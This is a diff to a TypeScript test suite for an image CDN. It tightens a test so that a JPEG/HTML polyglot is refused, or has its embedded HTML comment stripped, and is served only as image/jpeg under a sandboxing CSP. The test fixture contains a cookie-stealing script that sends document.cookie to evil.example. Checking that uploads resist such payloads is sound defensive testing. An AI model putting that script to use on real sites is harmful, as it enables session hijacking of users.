@@ -18,6 +18,7 @@
 import { expect } from "chai";
 import { DeleteObjectCommand, PutObjectCommand } from "@aws-sdk/client-s3";
 import * as fc from "fast-check";
+import sharp from "sharp";
 import { checkerPng } from "../../local/png";
 import { encodeObjectKey } from "../../edge/endpoints";
 import { CdnWorld, guardedPlans, startCdnWorld } from "../reliability/support/cdn-world";
@@ -26,6 +27,8 @@ import { headerOf, RawRequest, sendRaw } from "../reliability/support/raw-http";
 import { Expectation, hostileCorpus } from "./edge/corpus";
 import { generatedRequests } from "./edge/generated";
 import { ImageIssuer } from "../../issuer/issuer";
+import { RefusedContentError } from "../../issuer/errors";
+import { rejection } from "../support/rejection";
 import { answerProblem, effectivePath, judge, leaks, mayRead, normalized } from "./edge/oracle";
 import { prepareService, randomHex32, ServiceUnderAttack, testImage } from "./edge/service-under-attack";
 import { independentPresignSignature } from "../support/sigv4-oracle";
@@ -309,13 +312,18 @@ describe("edge over HTTP: hostile requests through the CloudFront emulator", fun
         }
 
         for (const name of ["discussion", "regulatory"]) {
-            it(`${name}: a JPEG/HTML polyglot is accepted as a JPEG by its bytes, and served only as image/jpeg with nosniff and a sandboxing CSP`, async () => {
+            it(`${name}: a JPEG/HTML polyglot is refused unless it is a real JPEG, whose HTML (in a comment) is removed; served only as image/jpeg with nosniff and a sandboxing CSP`, async () => {
                 const under = target(name);
-                const polyglot = Buffer.concat([
-                    Buffer.from("ffd8ffe000104a46494600010100000100010000", "hex"),
-                    Buffer.from("<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>"),
-                ]);
+                const page = Buffer.from("<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>");
+                // A JPEG signature with a page behind it is no image: refused, nothing stored.
+                const bare = Buffer.concat([Buffer.from("ffd8ffe000104a46494600010100000100010000", "hex"), page]);
+                await rejection(under.service.local.issuer.upload(bare), RefusedContentError);
+                // A real JPEG carrying the page in a comment segment: accepted, and the comment goes with the metadata.
+                const jpeg = await sharp(checkerPng({ width: 8, height: 8, square: 2, colors: [[200, 0, 0], [0, 0, 200]] })).jpeg().toBuffer();
+                const comment = Buffer.concat([Buffer.from([0xff, 0xfe, (page.length + 2) >> 8, (page.length + 2) & 0xff]), page]);
+                const polyglot = Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]);
                 const uploaded = await under.service.local.issuer.upload(polyglot);
+                expect(uploaded.metadata.removed).to.deep.equal(["comment"]);
                 expect(uploaded.contentType).to.equal("image/jpeg");
                 const response = await sendRaw(under.service.port, { method: "GET", target: `/images/${uploaded.hash}` });
                 expect(response.status).to.equal(200);
@@ -324,6 +332,8 @@ describe("edge over HTTP: hostile requests through the CloudFront emulator", fun
                 const csp = headerOf(response, "content-security-policy") ?? "";
                 expect(csp).to.include("sandbox").and.include("default-src 'none'");
                 expect(csp).to.not.include("script-src");
+                expect(response.body.includes("<script"), "the page is not in what is served").to.equal(false);
+                expect(response.body.equals(jpeg)).to.equal(true);
             });
         }
     });
